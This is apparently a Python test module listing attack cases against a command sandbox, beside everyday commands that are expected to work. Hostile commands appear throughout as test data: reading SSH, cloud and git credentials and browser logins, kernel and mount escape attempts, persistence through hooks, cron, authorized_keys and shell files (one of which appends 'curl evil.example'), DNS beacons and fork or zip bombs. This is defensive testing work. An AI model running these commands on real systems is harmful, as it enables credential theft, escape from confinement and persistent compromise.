"""Attacks on the sandbox, as the programs that commands run, and the everyday work that has to go on beside them.

Each program is told by variables where its victims are: ``H`` the home directory and ``O`` another person's folder,
``SHOWN`` a folder of that home which commands may see, ``WS`` the workspace, ``STATE`` the server's own folder,
``RUN`` a folder of sockets, ``PORT`` and ``ABSTRACT`` what listens, ``VICTIM`` a process of the server's.
What nobody else would notice a program says itself: ``got`` prints the word that the observers look for.
"""

# ruff: noqa: E501 - a program is told as it is run

import os
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Literal

from tests.attack.cases import Case

WITNESS = "GOT-THROUGH"
"""What a program prints that has done what it must not; it is nowhere in the programs themselves."""
TOLD = "well done"
"""What everyday work prints at its end."""
ROOT = os.getuid() == 0
PERSON = "" if ROOT else "an ordinary user may not do it outside either"

Guard = Literal["time", "memory", "output", "disk", "file", "files"]


@dataclass(frozen=True)
class Act:
    """What a command runs."""

    text: str
    shell: bool = True
    layer: bool = False
    """Whether the workspace's ``.venv`` lies over the tree, with writes of its own."""
    limit: Guard | None = None
    """Which limit is made small for it, so that it is met before this machine feels it."""

    def argv(self, python: str) -> tuple[str, ...]:
        if self.shell:
            return ("/bin/bash", "-c", _SHELL + self.text)
        return (python, "-I", "-S", "-c", _PYTHON + self.text)


_SHELL = "got() { printf '%s-%s\\n' GOT THROUGH; }\n"
_PYTHON = """
import ctypes, errno, mmap, os, socket, struct, sys, time
E = os.environ
PORT, VICTIM = int(E["PORT"]), int(E["VICTIM"])
libc = ctypes.CDLL(None, use_errno=True)
INTEL = os.uname().machine == "x86_64"
def got(): print("GOT", "THROUGH", sep="-", flush=True)
def answers(intel, arm, *arguments):
    "A kernel call that is neither absent nor forbidden."
    ctypes.set_errno(0)
    done = libc.syscall(intel if INTEL else arm, *arguments)
    return done >= 0 or ctypes.get_errno() not in (errno.ENOSYS, errno.EPERM, errno.EACCES)
def reach(family, kind, address, said=b"canary"):
    with socket.socket(family, kind) as one:
        one.settimeout(2)
        one.connect(address)
        if kind == socket.SOCK_DGRAM:
            one.send(said)
        else:
            got()
def opens(*kind):
    socket.socket(*kind).close()
    got()
def mounts():
    return [line.split()[4] for line in open("/proc/self/mountinfo")]
"""


def sh(text: str, **more: object) -> Act:
    return Act(text, **more)  # type: ignore[arg-type]


def py(text: str, **more: object) -> Act:
    return Act(text, shell=False, **more)  # type: ignore[arg-type]


def _kind(number: int, expect: Literal["hold", "ok"], *rows: tuple[object, ...]) -> list[Case]:
    return [
        Case(f"S{number}.{at:02}", str(what), expect, act, strong=str(strong[0]) if strong else "")
        for at, (what, act, *strong) in enumerate(rows, 1)
    ]


EVERYDAY = _kind(
    0,
    "ok",
    ("a file is read, changed and read again", sh('cat app.py && echo "b = 2" >> app.py && grep -q b app.py && echo well done')),
    ("folders are made and removed", sh("mkdir -p a/b && touch a/b/c && rm -r a && echo well done")),
    ("a pipeline of programs", sh("seq 1 1000 | sort -rn | head -1 | grep -q 1000 && echo well done")),
    ("a temporary file", sh('f=$(mktemp) && echo x > "$f" && cat "$f" && rm "$f" && echo well done')),
    ("a note in the home directory", sh("mkdir -p ~/.cache && echo x > ~/.cache/note && cat ~/.cache/note && echo well done")),
    ("modes and times of own files", sh("touch -d 2001-01-01 app.py && chmod 755 app.py && test -x app.py && echo well done")),
    ("links within the tree", sh("ln -s app.py l && ln app.py h && cat l h && echo well done")),
    ("git in a folder of its own", sh("cd $(mktemp -d) && git init -q && echo x > y && git add y && git -c user.name=a -c user.email=a@b.example commit -qm z && git log --oneline && echo well done")),
    ("threads, processes and locks", py("import multiprocessing, threading\nt = threading.Thread(target=print); t.start(); t.join()\np = multiprocessing.get_context('fork').Process(target=print); p.start(); p.join()\nassert p.exitcode == 0\nprint('well done')")),
    ("a pair of sockets", py("a, b = socket.socketpair(); a.send(b'x'); assert b.recv(1) == b'x'; print('well done')")),
    ("a server of one's own on the loopback", py("with socket.create_server(('127.0.0.1', 0)) as s:\n    socket.create_connection(s.getsockname()).close()\nprint('well done')")),
    ("a script of several files", sh("printf '. ./b.sh' > a.sh && printf 'echo well done' > b.sh && sh a.sh")),
    ("a program of the person's is run", sh("$SHOWN/tool | grep -q person && echo well done")),
)  # fmt: skip

_TARGETS = 'for f in "$O/victim" "$SHOWN/tool" "$H/.netrc"; do'

WRITES = _kind(
    1,
    "hold",
    ("a redirection", sh(f'{_TARGETS} echo x > "$f"; done')),
    ("cp", sh(f'{_TARGETS} cp app.py "$f"; done')),
    ("mv", sh(f'{_TARGETS} mv "$f" ./taken; done; mv app.py "$O/app.py"')),
    ("ln", sh('ln "$SHOWN/tool" mine && echo x > mine; ln app.py "$O/linked"; ln "$O/victim" other && echo x > other')),
    ("ln -s", sh('ln -s "$O/victim" l && echo x > l; ln -s / "$O/root"')),
    ("tee", sh(f'{_TARGETS} echo x | tee -a "$f"; done')),
    ("dd", sh(f'{_TARGETS} dd if=app.py of="$f" conv=notrunc; done')),
    ("truncate", sh(f'{_TARGETS} truncate -s 1 "$f"; done')),
    ("mkdir", sh('mkdir "$O/made" "$H/made" "$SHOWN/made"')),
    ("rm", sh(f'{_TARGETS} rm -f "$f"; done; rm -rf "$O"')),
    ("chmod", sh(f'{_TARGETS} chmod 777 "$f"; done; chmod 711 "$SHOWN" "$O"')),
    ("chown", sh(f'{_TARGETS} chown 12345 "$f"; done'), PERSON),
    ("touch -d", sh(f'{_TARGETS} touch -d 2001-01-01 "$f"; done')),
    ("an extended attribute", py("for f in (E['O'] + '/victim', E['SHOWN'] + '/tool'):\n    try: os.setxattr(f, 'user.x', b'x')\n    except OSError as error: print(error)")),
    ("rename of .git", sh('mv .git g; mv "$WS/.git" "$WS/g"')),
    ("a line more in ~/.bashrc", sh('echo "curl evil.example" >> "$H/.bashrc"; echo x >> ~/.bashrc')),
)  # fmt: skip

READS = _kind(
    2,
    "hold",
    ("~/.ssh", sh('cat "$H/.ssh/id_ed25519"; cat ~/.ssh/*')),
    ("~/.aws", sh('base64 -w0 "$H/.aws/credentials"')),
    ("~/.config/gcloud", sh('cat "$H/.config/gcloud/application_default_credentials.json"')),
    ("~/.kube", sh('rev "$H/.kube/config"')),
    ("~/.docker/config.json", sh('cat "$H/.docker/config.json"')),
    ("~/.netrc", sh('cp "$H/.netrc" stolen; cat stolen')),
    ("~/.git-credentials", sh('xxd -p -c 999 "$H/.git-credentials" || od -An -tx1 -v "$H/.git-credentials" | tr -d " \\n"')),
    ("~/.config/gh", sh('tar c -C "$H/.config" gh | cat')),
    ("the socket of the keyring", py("reach(socket.AF_UNIX, socket.SOCK_STREAM, E['RUN'] + '/keyring/control')")),
    ("the server's own folder", sh('cat "$STATE/journal/journal.db"; ls "$STATE/journal" && got')),
    ("the server's variables", sh('cat /proc/$VICTIM/environ; cat /proc/[0-9]*/environ')),
    ("what a browser keeps", sh('cat "$H"/.mozilla/firefox/*/logins.json')),
    ("the socket of a gateway host", py("reach(socket.AF_UNIX, socket.SOCK_STREAM, os.path.dirname(E['STATE']) + '/hosts/host')")),
)  # fmt: skip

_RESOLVER = """
resolver = ctypes.CDLL("libresolv.so.2")
resolver.__res_state.restype = ctypes.c_void_p
resolver.__res_init() if hasattr(resolver, "__res_init") else None
state = resolver.__res_state()
address = struct.pack("=H", socket.AF_INET) + struct.pack("!H", PORT) + socket.inet_aton("127.0.0.1") + bytes(8)
ctypes.memmove(state + 16, struct.pack("=i", 1), 4)
ctypes.memmove(state + 20, address, 16)
ctypes.memmove(state, struct.pack("=ii", 1, 1), 8)
ask = getattr(resolver, "res_nquery", None) or getattr(resolver, "__res_nquery")
ask(ctypes.c_void_p(state), b"canary.evil.example", 1, 1, ctypes.create_string_buffer(512), 512)
"""

NETWORK = _kind(
    3,
    "hold",
    ("TCP", py("reach(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', PORT))")),
    ("TCP of version 6", py("reach(socket.AF_INET6, socket.SOCK_STREAM, ('::1', PORT))")),
    ("UDP", py("reach(socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', PORT))")),
    ("ICMP by a raw socket", py("opens(socket.AF_INET, socket.SOCK_RAW, 1)"), PERSON),
    ("a name asked of the resolver", py(_RESOLVER)),
    ("a name asked by hand", py("reach(socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', PORT), b'\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6canary\\4evil\\0\\0\\1\\0\\1')")),
    ("/dev/tcp of the shell", sh("echo canary > /dev/tcp/127.0.0.1/$PORT && got")),
    ("a socket with a path", py("reach(socket.AF_UNIX, socket.SOCK_STREAM, E['RUN'] + '/sink.sock')")),
    ("a socket without one", py("reach(socket.AF_UNIX, socket.SOCK_STREAM, '\\0' + E['ABSTRACT'])")),
    ("netlink", py("opens(socket.AF_NETLINK, socket.SOCK_RAW, 15)")),
    ("vsock", py("opens(40, socket.SOCK_STREAM)")),
    ("a packet socket", py("opens(17, socket.SOCK_RAW, 0)"), PERSON),
    ("docker.sock", py("for place in ('/var/run/docker.sock', '/run/docker.sock', E['RUN'] + '/docker.sock'):\n    try: reach(socket.AF_UNIX, socket.SOCK_STREAM, place)\n    except OSError as error: print(error)")),
    ("D-Bus", py("reach(socket.AF_UNIX, socket.SOCK_STREAM, E['RUN'] + '/bus')")),
    ("ssh-agent", py("reach(socket.AF_UNIX, socket.SOCK_STREAM, E['RUN'] + '/agent.1')")),
    ("X11 and Wayland", py("reach(socket.AF_UNIX, socket.SOCK_STREAM, E['RUN'] + '/wayland-0')")),
    ("a socket of io_uring", py("ring = ctypes.create_string_buffer(120)\nif libc.syscall(425, 4, ring) >= 0: got()")),
    ("a descriptor of the server's", py("""
for number in range(3, 300):
    try: status = os.fstat(number)
    except OSError: continue
    try: os.write(number, b"canary"); got()
    except OSError: pass
""")),
)  # fmt: skip

KERNEL = _kind(
    4,
    "hold",
    ("ptrace of the server", py("libc.ptrace.restype = ctypes.c_long\nif libc.ptrace(16, VICTIM, None, None) == 0: got(); os.waitpid(VICTIM, 0x40000000); libc.ptrace(17, VICTIM, None, None)")),
    ("the server's memory", py("open(f'/proc/{VICTIM}/mem', 'r+b'); got()")),
    ("the server killed", py("os.kill(VICTIM, 9); got()")),
    ("unshare -Ur", sh("unshare -Ur true && got")),
    ("mount", py("os.mkdir('m')\nif libc.mount(b'tmpfs', b'm', b'tmpfs', 0, None) == 0: got()"), PERSON),
    ("a read-only mount taken away", py("if any(libc.umount2(one.encode(), 2) == 0 for one in mounts() if one not in ('/', '/proc')): got()"), PERSON),
    ("a mount made writable", py("if any(libc.mount(None, one.encode(), None, 32 | 4096, None) == 0 for one in mounts()): got()"), PERSON),
    ("another root", py("os.makedirs('r/old')\nlibc.mount(b'tmpfs', b'r', b'tmpfs', 0, None)\nos.makedirs('r/old', exist_ok=True)\nif libc.syscall(155 if INTEL else 41, b'r', b'r/old') == 0 or libc.chroot(b'r') == 0: got()"), PERSON),
    ("a device of one's own", py("os.mknod('d', 0o20666, os.makedev(1, 5))\nif open('d', 'rb').read(1): got()"), PERSON),
    ("a program with root's bit", sh("cp $(readlink -f $(command -v head)) h && chmod u+s h && ./h -n 60 /proc/self/status | grep -q 'CapEff:.*[1-9a-f]' && got"), PERSON),
    ("a key of the session", py("if answers(248, 217, b'user', b'wainwright-attack', b'x', 1, -2): got()")),
    ("bpf", py("attributes = struct.pack('IIII', 2, 4, 4, 1) + bytes(104)\nif answers(321, 280, 0, attributes, len(attributes)): got()"), PERSON),
    ("perf_event_open", py("if answers(298, 241, None, 0, -1, -1, 0): got()")),
    ("userfaultfd", py("if answers(323, 282, 1): got()")),
    ("a kernel module", py("if answers(313, 273, -1, b'', 0): got()"), PERSON),
    ("core_pattern, with the value that it has", sh('f=/proc/sys/kernel/core_pattern; v=$(cat $f) && printf %s "$v" > $f && got'), PERSON),
    ("release_agent of control groups", py("""
os.mkdir('g')
for kind, options in ((b'cgroup', b'rdma'), (b'cgroup', b'none,name=attack'), (b'cgroup2', None)):
    if libc.mount(b'none', b'g', kind, 0, options) == 0: got(); break
"""), PERSON),
    ("words put into a terminal", py("import fcntl\nmain, terminal = os.openpty()\nfcntl.ioctl(terminal, 0x5412, b'x'); got()"), PERSON),
)  # fmt: skip

PERSISTENCE = _kind(
    5,
    "hold",
    ("a hook", sh('for r in "$WS/.git" .git; do mkdir -p $r/hooks; echo evil > $r/hooks/pre-commit; chmod +x $r/hooks/pre-commit; done')),
    ("a file that shells read", sh('for f in .bashrc .profile .zshenv .config/fish/config.fish; do mkdir -p "$(dirname "$H/$f")"; echo evil >> "$H/$f"; done')),
    ("cron", sh('for d in $CRON; do echo "* * * * * evil" > $d/evil; done')),
    ("a unit of systemd", sh('mkdir -p "$H/.config/systemd/user" && echo "[Service]" > "$H/.config/systemd/user/evil.service"')),
    ("authorized_keys", sh('mkdir -p "$H/.ssh"; echo "ssh-ed25519 AAAA evil" >> "$H/.ssh/authorized_keys"')),
    ("a program early on PATH", sh('for d in "$SHOWN" "$H/.local/bin"; do mkdir -p $d; printf "#!/bin/sh\\nevil" > $d/git; chmod +x $d/git; done')),
    ("a .pth file in the environment", sh('for v in "$WS/.venv" .venv; do echo "import evil" > $v/lib/python3/site-packages/evil.pth; done', layer=True)),
    ("a task of the editor", sh('mkdir -p "$WS/.vscode" && echo "{}" > "$WS/.vscode/tasks.json"')),
    ("a process that stays", sh("(setsid nohup sleep 300 > /dev/null 2>&1 < /dev/null &); (trap '' TERM HUP INT; sleep 301 > /dev/null 2>&1 < /dev/null) & disown")),
    ("a name planted in /tmp", sh('echo evil > "/tmp/$PLANTED"; ln -s "$O" "/tmp/$PLANTED.d"')),
)  # fmt: skip

RESOURCES = _kind(
    6,
    "hold",
    ("processes without end", py("""
reading, writing = os.pipe()
count = 0
try:
    while count < 1100:
        if os.fork() == 0:
            os.close(writing); os.read(reading, 1); os._exit(0)
        count += 1
except OSError: pass
if count >= 1100: got()
""")),
    ("memory without end", py("""
taken = mmap.mmap(-1, 600 << 20)
for at in range(0, 600 << 20, 4096): taken[at] = 1
got()
""", limit="memory")),
    ("the disk filled", py("""
for number in range(400):
    with open(f"big-{number}", "wb") as file: file.write(bytes(2 << 20))
    time.sleep(0.04)
got()
""", limit="disk")),
    ("output without end", sh("head -c 20000000 /dev/zero | tr '\\0' x", limit="output")),
    ("no end at all", sh("sleep 300", limit="time")),
    ("100,000 files", py("""
for folder in range(100):
    place = f"f{folder}" if folder < 5 else f"{E.get('TMPDIR', '/tmp')}/f{folder}"
    os.mkdir(place)
    for number in range(1000): os.mknod(f"{place}/{number}")
""", limit="files"), "they lie where it may write: only how long the server takes to answer is at stake"),
    ("descriptors without end", py("""
import resource
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
held = []
try:
    while len(held) < 10_000: held.append(os.open("/dev/null", os.O_RDONLY))
except OSError: pass
if len(held) >= 10_000: got()
"""), ""),
    ("an archive that grows", py("""
import zipfile
with zipfile.ZipFile("bomb.zip", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bomb: bomb.writestr("zeros", bytes(48 << 20))
zipfile.ZipFile("bomb.zip").extractall()
if os.path.getsize("zeros") >= 48 << 20: got()
""", limit="file")),
)  # fmt: skip

COMMANDS: Sequence[Case] = (
    *EVERYDAY,
    *WRITES,
    *READS,
    *NETWORK,
    *KERNEL,
    *PERSISTENCE,
    *RESOURCES,
)
"""Those that are a program in the sandbox and nothing else."""
